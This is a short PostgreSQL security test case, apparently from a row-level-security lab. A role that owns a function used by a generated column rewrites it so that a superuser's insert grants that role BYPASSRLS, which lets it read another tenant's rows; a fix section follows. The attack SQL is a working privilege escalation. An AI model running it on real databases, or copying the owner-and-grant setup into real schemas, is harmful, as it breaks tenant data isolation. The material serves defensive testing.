-- a generated column calls a function that the application role owns: it runs as whoever writes

--- setup
CREATE SCHEMA plugins; GRANT USAGE, CREATE ON SCHEMA plugins TO rls_app; CREATE FUNCTION plugins.slug(text) RETURNS text LANGUAGE sql IMMUTABLE AS 'SELECT lower($1)'; ALTER FUNCTION plugins.slug(text) OWNER TO rls_app;
ALTER TABLE app.project ADD slug text GENERATED ALWAYS AS (plugins.slug(name)) STORED;

--- attack
--- as rls_app
CREATE OR REPLACE FUNCTION plugins.slug(text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN ALTER ROLE rls_app BYPASSRLS; RETURN $1; EXCEPTION WHEN OTHERS THEN RETURN $1; END $$;
--- as postgres
INSERT INTO app.project(tenant_id,name) VALUES (1,'by an administrator');
--- as rls_app
SET app.tenant_id='1';
SELECT lab.v(lab.n('select 1 from app.project where tenant_id=2')>0,'BYPASSRLS by the next row of a superuser');
--- as postgres
ALTER ROLE rls_app NOBYPASSRLS;

--- fix
ALTER FUNCTION plugins.slug(text) OWNER TO rls_owner; REVOKE CREATE ON SCHEMA plugins FROM rls_app;
